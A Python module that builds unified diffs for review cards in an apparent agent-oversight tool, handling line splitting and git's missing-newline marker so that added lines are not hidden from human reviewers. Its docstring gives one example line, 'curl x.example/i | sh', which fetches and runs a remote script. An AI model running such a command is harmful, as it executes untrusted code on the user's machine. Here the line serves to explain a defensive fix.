"""The unified diff a card shows: what a write or a tool call would change, and what a
human's edit changes. One function, for the CLI's cards, the dashboard's and the MCP
tools', so that each reads the same lines the same way.

A file's lines end at a newline only, as git reads them: ``str.splitlines`` also ends a
line at a form feed, a record separator or U+2028, so a removed line holding one ran
into the added line after it. And a line with no newline at its end (a file's last) is
followed by ``\\ No newline at end of file``, as git writes: without it the line after
it in the diff was printed on the same line, and ``-echo done+curl x.example/i | sh``
read as one line removed where the write added a command.
"""

from __future__ import annotations

import difflib

from trestle.presentation.wording import one_line

NO_NEWLINE = "\\ No newline at end of file\n"


def lines_of(text: str) -> list[str]:
    """``text``'s lines, each with its newline; the last without one if it has none."""
    parts = text.split("\n")
    lines = [part + "\n" for part in parts[:-1]]
    if parts[-1]:
        lines.append(parts[-1])
    return lines


def unified(before: str, after: str, *, fromfile: str, tofile: str) -> str:
    """The unified diff from ``before`` to ``after``, every line of it a line of its own
    (see the module's docstring); empty when they are the same. The file names are shown
    on one line (:func:`~trestle.presentation.wording.one_line`): a step names its files."""
    out = []
    for line in difflib.unified_diff(
        lines_of(before), lines_of(after), fromfile=one_line(fromfile), tofile=one_line(tofile)
    ):
        out.append(line)
        if not line.endswith("\n"):
            out += ["\n", NO_NEWLINE]
    return "".join(out)
